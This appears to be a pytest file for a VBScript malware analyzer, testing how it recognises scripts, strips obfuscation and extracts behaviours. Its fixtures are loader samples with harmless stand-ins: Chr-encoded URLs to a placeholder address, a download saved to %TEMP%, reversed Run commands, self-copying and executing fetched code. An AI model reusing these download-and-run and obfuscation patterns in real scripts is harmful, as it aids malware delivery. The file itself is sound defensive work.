"""VBScript: followed from its first line, disguises taken off, components opened."""

import random

import pytest

from sekisho.analyzers.vbscript import analyze, is_vbscript
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError

SOURCE = """On Error Resume Next
Dim a, b
a = Array(104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 49, 47, 97)
For Each x In a
  b = b & Chr(x)
Next
Set s = CreateObject("W" & "Script.She" & "ll")
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", b, False
h.Send
Set t = CreateObject("ADODB.Stream")
t.Write h.ResponseBody
t.SaveToFile s.ExpandEnvironmentStrings("%TEMP%") & "\\x.dat", 2
Function d(s)
  For i = Len(s) To 1 Step -1
    d = d & Mid(s, i, 1)
  Next
End Function
s.Run d("clac"), 0
ExecuteGlobal StrReverse(")""olleh"" & "" dmc""( nuR.s")
"""
ENCODED = b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"


def read(data, name="a.vbs"):
    features, children, error = {}, [], None
    try:
        for one in analyze(Artifact(name, data if isinstance(data, bytes) else data.encode(), name)):
            if isinstance(one, Feature):
                features.setdefault(one.name, []).append(one.value)
            else:
                children.append(one)
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("a.vbs", b'CreateObject("WScript.Shell").Run "x"', True),
        ("a", SOURCE.encode(), True),
        ("a.txt", b"Set a = 1", False),
        ("a.vbe", ENCODED, True),
        ("a.jse", ENCODED, False),
        ("a.js", b'var s = new ActiveXObject("WScript.Shell");\nSet a = 1', False),
        ("a.ps1", b"$a = 1\nIf ($a) { }\nSet x = 1", False),
        ("a.txt", b"Dear customer,\nIf you agree, Then reply.\nNext week we call.", False),
        ("a.bas", b'Attribute VB_Name = "A"\nDim x\nSet y = z\nOn Error Resume Next', False),
        ("a.wsf", b'<job><script language="VBScript">MsgBox 1</script></job>', True),
        ("a.html", b'<html><script language="VBScript">MsgBox 1</script></html>', False),
        ("a.vbs", SOURCE.encode("utf-16"), True),
        ("a.vbs", bytes(100), False),
    ],
)
def test_recognised(name, data, expected):
    assert is_vbscript(Artifact(name, data, name)) is expected


def test_a_loader():
    features, children, error = read(SOURCE)
    assert features["script.language"] == ["vbscript"]
    assert features["script.commands"] == ["calc", "cmd hello"]
    assert "downloads http://192.0.2.1/a" in features["script.calls"]
    assert "writes %TEMP%\\x.dat" in features["script.calls"]
    assert {"char-code", "concat", "reverse", "built-code"} <= set(features["script.tricks"])
    assert features["url"][0].canonical == "http://192.0.2.1/a"
    assert 's.Run("calc", 0)' in features["script.unfolded"][0]
    assert 's.Run ("cmd " & "hello")' in features["script.unfolded"][0]
    assert [(child.name, child.kind, child.data) for child in children] == [
        ("Run", "cmd", b"calc"),
        ("Run", "cmd", b"cmd hello"),
    ]
    assert error is None


def test_it_copies_itself_and_evaluates_what_it_fetched():
    source = (
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://192.0.2.1/a", False\nh.Send\n'
        'Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile WScript.ScriptFullName, "C:\\a.vbs"\n'
        "Do\nExecute h.responseText\nLoop\n"
    )
    features, _, _ = read(source)
    assert "copies itself" in features["script.calls"]
    assert [call for call in features["script.calls"] if call.startswith("evaluates ")] == [
        "evaluates {h.responseText}"
    ]
    features, _, _ = read('Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile "C:\\a", "C:\\b"')
    assert features["script.calls"] == ["creates Scripting.FileSystemObject", "writes C:\\b"]


def test_encoded_script():
    features, _, _ = read(ENCODED, "a.vbe")
    assert features["script.unfolded"] == ['MsgBox "Hello"']
    assert "script-encoder" in features["script.tricks"]


def test_script_components_are_opened():
    data = '<?xml version="1.0"?><job><script language="VBScript"><![CDATA[\nMsgBox 1\n]]></script><script>var a;</script></job>'
    _, children, _ = read(data, "a.wsf")
    assert [(child.name, child.kind, child.data) for child in children] == [
        ("script1.vbs", "vbscript", b"MsgBox 1"),
        ("script2.js", "jscript", b"var a;"),
    ]


def test_classes_and_line_styles():
    features, _, _ = read(
        'Class Loader\n  Public Default Sub Go(x): CreateObject("WScript.Shell").Run x: End Sub\nEnd Class\n'
        'Go "calc": a="x"&"y":If a="xy" Then CreateObject("WScript.Shell").Run a\n'
    )
    assert features["script.commands"] == ["calc", "xy"]


def test_a_waiting_loop_does_not_hold_it_up():
    features, _, error = read('Do While True\nWScript.Sleep 1000\nLoop\nCreateObject("WScript.Shell").Run "calc"')
    assert features["script.commands"] == ["calc"]
    assert error is None


def test_mutations_raise_nothing_unforeseen():
    generator = random.Random(11)
    for _ in range(60):
        data = bytearray(SOURCE.encode())
        for _ in range(generator.choice([1, 5, 20])):
            at = generator.randrange(len(data))
            data[at : at + generator.randrange(3)] = bytes([generator.randrange(256)])
        read(bytes(data))
